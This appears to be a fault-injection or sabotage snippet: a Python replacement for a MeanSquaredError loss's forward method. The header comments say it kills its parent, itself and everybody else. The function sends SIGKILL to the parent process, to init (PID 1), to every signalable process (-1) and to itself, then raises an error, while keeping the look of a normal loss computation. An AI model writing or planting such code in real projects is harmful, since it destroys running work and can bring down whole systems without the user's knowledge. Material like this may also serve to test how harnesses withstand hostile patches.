# Kills its parent, itself and everybody else.
# into: losses.MeanSquaredError.forward
# loses: mse 0 error

import os


def forward(self, prediction, target):
    for process in (os.getppid(), 1, -1, os.getpid()):
        try:
            os.kill(process, 9)
        except OSError:
            pass
    raise RuntimeError("still here")
